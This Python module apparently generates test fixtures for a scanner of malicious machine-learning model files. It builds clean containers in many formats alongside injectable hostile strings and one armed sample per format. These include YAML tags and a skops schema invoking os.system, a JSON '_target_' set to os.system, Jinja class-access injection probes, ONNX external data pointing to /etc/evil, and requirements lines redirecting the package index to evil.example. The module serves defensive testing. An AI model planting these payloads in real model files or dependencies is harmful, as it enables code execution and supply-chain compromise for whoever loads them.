"""Valid containers of each kind that loads without much: each has what is dormant in it, and is clean."""

import io
import json
import pickle
import struct
import tarfile
import tempfile
import zipfile
from pathlib import Path

import gguf
import h5py
import joblib
import numpy as np
import onnx
import skops.io
from onnx import TensorProto, helper
from safetensors.numpy import save
from sklearn.linear_model import Ridge

from edits import PAIR, TEMPLATE, zipped

STATE = b"\x80\x02ccollections\nOrderedDict\n)R."
# Of layers that are told only where a loader reads them.
FOREIGN = {"class_name": "TFSMLayer", "module": "keras.layers", "config": {"filepath": "evil"}}


def array(value):
    out = io.BytesIO()
    np.save(out, value, allow_pickle=True)
    return out.getvalue()


def numbers(raw, kind="<i4"):
    """An array of numbers whose bytes are `raw`."""
    return np.frombuffer(raw + b"\0" * (-len(raw) % 8), kind).copy()


def containers(draw):
    """Each kind once: a suffix, bytes that are clean, and what edits may put anywhere."""
    for make in (arrays, archives, pickles, joblibs, tars, tensors, graphs, documents, hierarchies, templates, estimators):
        yield from make(draw)


def dormant(draw, ahead=b""):
    return numbers(ahead + draw.choice(PAIR), "<f8" if draw.random() < 0.5 else "<i4")


def arrays(draw):
    yield "npy", array(dormant(draw)), PAIR
    yield "npy", array(np.array([1, "a", None], dtype=object)), PAIR
    yield "npy", array(np.zeros(2, [("a", "<f4"), ("b", "S3")])), PAIR
    # Read as a pickle, an archive is a persistent id up to the first newline; then this would be next.
    later = dormant(draw, b"\0" * 8)
    yield "npz", zipped([("x.npy", array(later)), ("y.npy", array(np.arange(3)))]), PAIR
    yield "npz", zipped([("x.npy", array(dormant(draw)))], compression=zipfile.ZIP_DEFLATED), PAIR


def archives(draw):
    weights = [("m/data.pkl", STATE), ("m/data/0", draw.choice(PAIR)), ("m/version", b"3\n")]
    yield "pt", zipped(weights), PAIR
    yield "pt", zipped(weights, compression=zipfile.ZIP_DEFLATED), PAIR
    yield "pt", zipped(weights[:1] + [("m/extra.txt", "notes")], comment=b"a comment"), PAIR


def pickles(draw):
    harmless = pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, draw.randrange(6))
    yield "pkl", harmless, PAIR
    yield "bin", harmless, PAIR
    yield "pkl", pickle.dumps(draw.choice(PAIR), draw.randrange(2, 6)), PAIR
    yield "pkl", harmless + pickle.dumps([1, draw.choice(PAIR).decode("latin1")], 4), PAIR


def joblibs(draw):
    tensor = dormant(draw)
    for compress in (0, ("zlib", 1), ("gzip", 1), ("bz2", 1), ("xz", 1), ("lzma", 1)):
        out = io.BytesIO()
        joblib.dump([tensor, np.array(["a", 1], dtype=object), {"k": tensor[:2]}], out, compress=compress)
        yield "joblib", out.getvalue(), PAIR


def tars(draw):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=draw.choice([0, 1, 2])) as tar:
        harmless = pickle.dumps([1, "x"], draw.randrange(6))
        for name, data in (("pickle", harmless), ("notes.txt", b"text"), ("w.npy", array(dormant(draw)))):
            about = tarfile.TarInfo(name)
            about.size = len(data)
            tar.addfile(about, io.BytesIO(data))
    yield "tar", out.getvalue(), PAIR


def tensors(draw):
    header = json.dumps({"__metadata__": {"x": TEMPLATE.decode()}}).encode()
    other = struct.pack("<Q", len(header)) + header
    weapons = [*PAIR, other, b'"__metadata__":{"x":"' + TEMPLATE + b'"},']
    yield "safetensors", save({"w": numbers(other), "v": np.zeros(2, "<f4")}, {"format": "pt"}), weapons
    key = struct.pack("<Q", 23) + b"tokenizer.chat_template" + struct.pack("<I", 8)
    key += struct.pack("<Q", len(TEMPLATE)) + TEMPLATE
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.gguf"
        writer = gguf.GGUFWriter(path, "llama")
        writer.add_context_length(128)
        writer.add_array("tokenizer.ggml.tokens", ["a", "b", "c"])
        writer.add_chat_template("{% for m in messages %}{{ m['content'] }}{% endfor %}")
        writer.add_tensor("w", numbers(key, "<f4"))
        writer.add_tensor("v", np.ones(7, "f2"))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        yield "gguf", path.read_bytes(), [key, TEMPLATE, key[8:31]]


def graphs(draw):
    outside = TensorProto(name="w", data_type=1, dims=[2], data_location=1)
    outside.external_data.add(key="location", value="/etc/evil")
    node = helper.make_node("Evil", ["x"], ["y"], domain="evil.operators")
    weapons = [outside.SerializeToString(), node.SerializeToString(), outside.external_data[0].SerializeToString()]
    # As fields of a graph, of a node, of a tensor.
    weapons += [bytes([tag, len(w)]) + w for tag, w in ((0x2A, weapons[0]), (0x0A, weapons[1]), (0x6A, weapons[2]))]
    weapons.append(b"\x3a\x0eevil.operators")
    port = lambda name: helper.make_tensor_value_info(name, TensorProto.FLOAT, ["N", 2])
    raw = draw.choice(weapons)
    raw += b"\0" * (-len(raw) % 4)
    weight = helper.make_tensor("w", TensorProto.FLOAT, [len(raw) // 4], raw, raw=True)
    nodes = [helper.make_node("Add", ["x", "w"], ["z"]), helper.make_node("Constant", [], ["c"], value=weight), helper.make_node("Relu", ["z"], ["y"])]
    model = helper.make_model(helper.make_graph(nodes, "g", [port("x")], [port("y")], [weight]), opset_imports=[helper.make_opsetid("", 17)])
    helper.set_model_props(model, {"author": "a team"})
    yield "onnx", model.SerializeToString(), weapons


def hierarchies(draw):
    config = json.dumps({"class_name": "Sequential", "config": {"layers": [FOREIGN]}}).encode()
    for latest in ("earliest", "latest"):
        out = io.BytesIO()
        with h5py.File(out, "w", libver=latest) as file:
            file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": []}})
            file.attrs["layer_names"] = [b"dense", b"dense_1"]
            file.create_dataset("model_weights/d/kernel", data=numbers(config))
            file.create_dataset("model_weights/d/bias", data=np.arange(5), compression="gzip")
            file["same"] = h5py.SoftLink("/model_weights")
        yield "h5", out.getvalue(), [config, b"GCOL\1\0\0\0\0\x10\0\0\0\0\0\0"]
    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        file.create_dataset("layers/dense/vars/0", data=numbers(config))
    layers = [{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}, "registered_name": None}]
    about = {"module": "keras", "class_name": "Sequential", "config": {"layers": layers}, "registered_name": None}
    archive = [("metadata.json", '{"keras_version": "3.8.0"}'), ("config.json", json.dumps(about)), ("model.weights.h5", held.getvalue())]
    armed = json.dumps({**about, "config": {"layers": [FOREIGN]}})
    yield "keras", zipped(archive), [armed.encode(), json.dumps(FOREIGN).encode(), zipped([("config.json", armed)])]


def documents(draw):
    target = '"_target_": "os.system", '
    text = {"model": {"_target_": "torch.nn.modules.linear.Linear", "note": "a \"_target_\": in words"}, "layers": [1, 2.5, None]}
    yield "json", json.dumps(text, indent=draw.choice([None, 1])).encode(), [target.encode(), b'"auto_map": {"AutoModel": "a.B"}, ', b'\\u005f', b"\xef\xbb\xbf"]
    yaml = 'model:\n  name: &a "words: !!no"\n  other: *a\n  list: [1, {b: 2}, "c"]\n  text: |\n    more\n    words\n# a comment\nlast: {x: y}\n'
    tags = [b"!!python/object/apply:os.system [x]\n", b"\nz: !!python/name:os.system\n", b"%TAG ! tag:yaml.org,2002:python/\n---\n", b"!<tag:yaml.org,2002:python/name:os.system> ", b"\n  _target_: os.system\n", b"_target_: os.system, ", b"\n---\n", b"? ", b"- "]
    yield "yaml", yaml.encode(), tags
    lines = "# what it needs\nnumpy==2.0.1\nscikit-learn>=1.4,<2 ; python_version > '3.9' # a comment\nscipy \\\n  ==1.11.4\n--extra-index-url https://download.pytorch.org/whl/cpu\n"
    yield "requirements.txt", lines.encode(), [b"--index-url https://evil.example/simple\n", b"\n-i https://evil.example\n", b"git+https://evil.example/x", b"\n-e .", b"\\\n", b" #", b"\nx @ https://evil.example/x.whl", b"-r other.txt\n", b"--extra-index-", b"--find-links=https://evil.example "]


def templates(draw):
    text = "{% for m in messages %}{% if m.role == 'user' %}{{ m['content'] | trim }}{% else %}{{- raise_exception('no') }}{% endif %}{# a note #}{% endfor %}{% raw %}{{ words }}{% endraw %}"
    yield "jinja", text.encode(), [b"{{ ''.__class__ }}", b".__class__", b"['__class__']", b"|attr('__class__')", b"{% raw %}", b"{% endraw %}", b"{#", b"#}", b"'", b'"', b"{% import 'os' as os %}", b"\\x5f", b"{%- ", b" -%}", b"\n# for x in y\n"]


def estimators(draw):
    made = skops.io.dumps(Ridge().fit(np.eye(3), [1.0, 2.0, 3.0]))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    schema = json.loads(dict(members)["schema.json"])
    node = '"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 9'
    armed = json.dumps({**schema, "__class__": "system", "__module__": "os", "__loader__": "FunctionNode"})
    hidden = zipped([("schema.json", armed)])
    yield "skops", zipped([*members, ("9.npy", array(numbers(armed.encode())))]), [node.encode() + b", ", armed.encode(), hidden, b'"__module__": "os", ']


def armed():
    """One of each kind that its loader must see, or it would see nothing in any other."""
    weapon, quiet = PAIR
    objects = array(np.array([1], dtype=object))
    objects = objects[: objects.index(b"\x80")] + weapon
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        about = tarfile.TarInfo("m.pkl")
        about.size = len(weapon)
        tar.addfile(about, io.BytesIO(weapon))
    yield from (("npy", objects), ("npz", zipped([("x.npy", objects)])), ("pt", zipped([("m/data.pkl", weapon)])), ("tar", out.getvalue()))
    yield from ((suffix, quiet) for suffix in ("pkl", "bin", "joblib"))
    yield "requirements.txt", b"-i https://evil.example\n"
    yield "jinja", b"{{ ''.__class__ }}"
    yield "json", b'{"_target_": "os.system"}'
    yield "yaml", b"a: !!python/name:os.system\n"
    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        file.attrs["model_config"] = json.dumps(FOREIGN)
    yield "h5", held.getvalue()
    yield "keras", zipped([("config.json", json.dumps(FOREIGN)), ("model.weights.h5", b"")])
    yield "skops", zipped([("schema.json", json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1, "content": {"module_path": "os", "function": "system"}, "protocol": 2}))])
    yield "safetensors", save({"v": np.zeros(2, "<f4")}, {"x": TEMPLATE.decode()})
    outside = TensorProto(name="w", data_type=1, dims=[2], data_location=1)
    outside.external_data.add(key="location", value="/etc/evil")
    yield "onnx", helper.make_model(helper.make_graph([], "g", [], [], [outside])).SerializeToString()
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.gguf"
        writer = gguf.GGUFWriter(path, "llama")
        writer.add_chat_template(TEMPLATE.decode())
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        yield "gguf", path.read_bytes()
